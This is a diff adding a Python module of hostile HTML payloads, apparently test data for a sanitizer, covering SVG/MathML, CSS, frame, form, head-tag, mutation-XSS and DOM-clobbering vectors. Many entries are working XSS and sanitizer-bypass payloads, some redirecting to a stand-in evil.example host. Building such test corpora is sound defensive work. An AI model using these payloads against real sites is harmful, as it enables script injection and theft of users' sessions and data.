@@ -1,0 +1,168 @@
+"""Hostile HTML that changes the page: foreign markup, frames, forms, heads, mutation, names.
+
+A line is a payload; or payload and control; or payload, control and act (None: as the payload).
+hostile.py explains and numbers them."""
+
+Line = str | tuple[str, str | None] | tuple[str, str | None, str]
+
+SVG_AND_MATH: list[Line] = [
+    "<svg onload=§>",
+    "<svg/onload=§>",
+    "<svg><script>§</script></svg>",
+    "<svg><script>&#95;&#95;xss(§)</script></svg>",
+    "<svg><script href=data:text/javascript,§ /></svg>",
+    "<svg><script xlink:href=data:text/javascript,§ /></svg>",
+    "<svg><image href=x onerror=§ /></svg>",
+    "<svg><image xlink:href=x onerror=§></image></svg>",
+    "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
+    "<svg><set onbegin=§ attributeName=x dur=1s></svg>",
+    "<svg><animateTransform onbegin=§ attributeName=transform dur=1s></svg>",
+    "<svg><style><img src=x onerror=§></style></svg>",
+    "<svg><desc><img src=x onerror=§></desc></svg>",
+    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
+    ("<svg><a href=javascript:§><text y=9>x</text></a></svg>", None, "click"),
+    ("<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>", None, "click"),
+    (
+        "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a></svg>",
+        "<svg><a href=javascript:§><text y=9>x</text></a></svg>",
+        "click",
+    ),
+    ("<math><mi href=javascript:§>x</mi></math>", "<math><mi onclick=§>x</mi></math>", "click"),
+    "<math><mtext><img src=x onerror=§></mtext></math>",
+    ("<math onclick=§>x</math>", None, "click"),
+    ("<math><maction actiontype=statusline href=javascript:§ onclick=§>x</maction></math>",
+     None, "click"),
+    "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
+]  # fmt: skip
+_SEE = "<script>getComputedStyle(document.querySelector('i')).color=='rgb(1, 2, 3)'&&§</script>"
+CSS: list[Line] = [
+    "<style onload=§></style>",
+    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=§>x</b>",
+    "<style>b{transition:color .1s}</style><style>@import 'data:text/css,'</style><style onload=§>",
+    ("<style>i{color:rgb(1,2,3)}</style>", f"<style>i{{color:rgb(1,2,3)}}</style><i>x</i>{_SEE}"),
+    ("<i style='color:rgb(1,2,3)'>x</i>", f"<i style='color:rgb(1,2,3)'>x</i>{_SEE}"),
+    ("<i style=color:rgb(1,2,3);position:fixed;inset:0>x</i>",
+     f"<i style=color:rgb(1,2,3);position:fixed;inset:0>x</i>{_SEE}"),
+    ("<link rel=stylesheet href='data:text/css,i{color:rgb(1,2,3)}'>",
+     f"<link rel=stylesheet href='data:text/css,i{{color:rgb(1,2,3)}}'><i>x</i>{_SEE}"),
+    "<link rel=stylesheet href=data:text/css, onload=§>",
+    ("<p style=width:expression(§)>", "<style onload=§></style>"),
+    ("<p style='background:url(javascript:§)'>", "<style onload=§></style>"),
+    ("<p style='-moz-binding:url(data:text/xml,§)'>", "<style onload=§></style>"),
+    "<style></style\t><img src=x onerror=§>",
+    "<style><!--</style><img src=x onerror=§>",
+    "<style>*{x:'</style><img src=x onerror=§>'}</style>",
+    "<b style='animation:1s k' onanimationend=§><style>@keyframes k{}</style></b>"
+    "<style onload=§></style>",
+]  # fmt: skip
+FRAMES: list[Line] = [
+    "<iframe onload=§></iframe>",
+    "<iframe/onload=§>",
+    "<iframe srcdoc='<script>parent.§</script>'></iframe>",
+    "<iframe srcdoc='&lt;img src=x onerror=parent.§&gt;'></iframe>",
+    "<iframe srcdoc=&lt;svg/onload=parent.§&gt;></iframe>",
+    "<iframe src=about:blank onload=§></iframe>",
+    "<iframe src=javascript:parent.§>",
+    "<object onerror=§ data=x></object>",
+    "<object data=about:blank onload=§></object>",
+    "<object type=text/html data=about:blank onload=§></object>",
+    "<embed src=about:blank onload=§>",
+    "<embed type=text/html src=about:blank onload=§>",
+    ("<frameset onload=§><frame></frameset>", "<iframe onload=§></iframe>"),
+    ("<applet code=x onerror=§></applet>", "<object data=x onerror=§></object>"),
+    ("<portal src=javascript:§></portal>", "<iframe onload=§></iframe>"),
+    ("<fencedframe onload=§></fencedframe>", "<iframe onload=§></iframe>"),
+]
+FORMS: list[Line] = [
+    ("<form><button formaction=javascript:§>x</button></form>", None, "click"),
+    ("<form><input type=submit formaction=javascript:§></form>", None, "click"),
+    ("<form id=f></form><button form=f formaction=javascript:§>x</button>", None, "click"),
+    ("<form action=javascript:§><input type=submit></form>", None, "click"),
+    ("<form onsubmit=§><button>x</button></form>", None, "click"),
+    ("<button onclick=§>x</button>", None, "click"),
+    ("<input value=x onclick=§>", None, "click"),
+    ("<textarea onclick=§></textarea>", None, "click"),
+    ("<select onchange=§><option>x</select>", None, "change"),
+    ("<form oninput=§><input></form>", None, "input"),
+    ("<isindex type=image src=x onerror=§>", "<input type=image src=x onerror=§>"),
+    ("<keygen autofocus onfocus=§>", "<input onfocus=§>", "focus"),
+    ("<input autofocus onfocus=§>", None, "focus"),
+    ("<label for=l>x</label><input id=l type=checkbox onclick=§>", None, "click"),
+    ("<dialog open onclose=§>x</dialog>", None, "close"),
+    ("<button popovertarget=p>x</button><p popover id=p onbeforetoggle=§>x</p>", None, "click"),
+]
+_BASE = "<script>document.baseURI.includes('evil')&&§</script>"
+HEAD: list[Line] = [
+    ("<base href=https://evil.example/>", f"<base href=https://evil.example/>{_BASE}"),
+    ("<BASE HREF='//evil.example'>", f"<BASE HREF='//evil.example'>{_BASE}"),
+    ("<base target='§'>", "<base target='x'><script>document.querySelector('base')&&§</script>"),
+    ("<base href=javascript:§//>", "<base href=https://evil.example/>" + _BASE),
+    ("<meta http-equiv=refresh content='0;url=javascript:§'>",
+     "<meta name=x><script>document.querySelector('meta[name=x]')&&§</script>"),
+    ("<meta http-equiv=refresh content='0;url=https://evil.example'>",
+     "<meta name=x><script>document.querySelector('meta[name=x]')&&§</script>"),
+    ("<meta http-equiv=Set-Cookie content=a=§>",
+     "<meta name=x><script>document.querySelector('meta[name=x]')&&§</script>"),
+    ("<meta charset=utf-7>+ADw-script+AD4-§+ADw-/script+AD4-", "<script>§</script>"),
+    "<link rel=stylesheet href=x onerror=§>",
+    "<link rel=preload as=script href=data:, onload=§><link rel=stylesheet href=x onerror=§>",
+    "<link rel=modulepreload href=data:text/javascript, onload=§>",
+    ("<link rel=import href=data:text/html,§>", "<link rel=stylesheet href=x onerror=§>"),
+    "<title><img src=x onerror=§></title><title></title><img src=x onerror=§>",
+    "</title><img src=x onerror=§>",
+    "</head><body onload=§>",
+]  # fmt: skip
+MUTATION: list[Line] = [
+    "<noscript><p title='</noscript><img src=x onerror=§>'>",
+    "<template><img src=x onerror=§></template><img src=x onerror=§>",
+    "<textarea><p title='</textarea><img src=x onerror=§>'>",
+    "<title><p title='</title><img src=x onerror=§>'>",
+    "<xmp><p title='</xmp><img src=x onerror=§>'>",
+    "<iframe><p title='</iframe><img src=x onerror=§>'>",
+    "<noembed><p title='</noembed><img src=x onerror=§>'>",
+    "<noframes><p title='</noframes><img src=x onerror=§>'>",
+    "<style><p title='</style><img src=x onerror=§>'>",
+    "<img src=x onerror=§><plaintext>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=§&gt;'>"
+    "<img src=x onerror=§>",
+    "<form><math><mtext></form><form><mglyph><style></math></style></math><img src onerror=§>",
+    "<svg></p><style><a id='</style><img src=1 onerror=§>'>",
+    "<math></p><style><!--</style><img src=x onerror=§>",
+    "<svg><p><style><!--</style><img src=x onerror=§>--></style>",
+    "<table><td><svg><desc><td><img src=x onerror=§></desc></svg></td></table>",
+    "<table background=x><caption><img src=x onerror=§></caption></table>",
+    "<table><img src=x onerror=§></table>",
+    "<math><annotation-xml encoding='text/html'><style></style><img src=x onerror=§>",
+    "<svg><title><style><img src=x onerror=§></style></title></svg><img src=x onerror=§>",
+    "<!--><img src=x onerror=§>-->",
+    "<!---><img src=x onerror=§>-->",
+    "<!-- --!><img src=x onerror=§>-->",
+    "<svg><![CDATA[</svg>]]></svg><img src=x onerror=§>",
+    "<?xml <img src=x onerror=§>?><img src=x onerror=§>",
+    "<!DOCTYPE x [<img src=x onerror=§>]><img src=x onerror=§>",
+    "<a/><b></a><img src=x onerror=§></b>",
+    "<ruby><rt><rp><img src=x onerror=§></ruby>",
+    ("<listing>&lt;img src=x onerror=§&gt;</listing>", "<img src=x onerror=§>"),
+    "<p " * 60 + "><img src=x onerror=§>",
+    "<b>" * 600 + "<img src=x onerror=§>",
+]
+CLOBBERING: list[Line] = [
+    (payload, payload + "<script>(window.config||document.config)&&§</script>")
+    for payload in (
+        "<a id=config href=https://evil.example>x</a>",
+        "<a id=config></a><a id=config name=url href=https://evil.example></a>",
+        "<form id=config><input name=url value=x></form>",
+        "<form name=config></form>",
+        "<img name=config>",
+        "<img id=config>",
+        "<iframe name=config srcdoc='<a id=url href=x>'></iframe>",
+        "<object id=config></object>",
+        "<embed name=config>",
+        "<p id=config>x</p>",
+        "# x {#config}\n<p id=config>",
+    )
+] + [
+    (payload, payload + "<script>typeof document.querySelector!='function'&&§</script>")
+    for payload in ("<img name=querySelector>", "<form name=querySelector></form>",
+                    "<embed name=querySelector>", "<object id=querySelector></object>")
+]  # fmt: skip
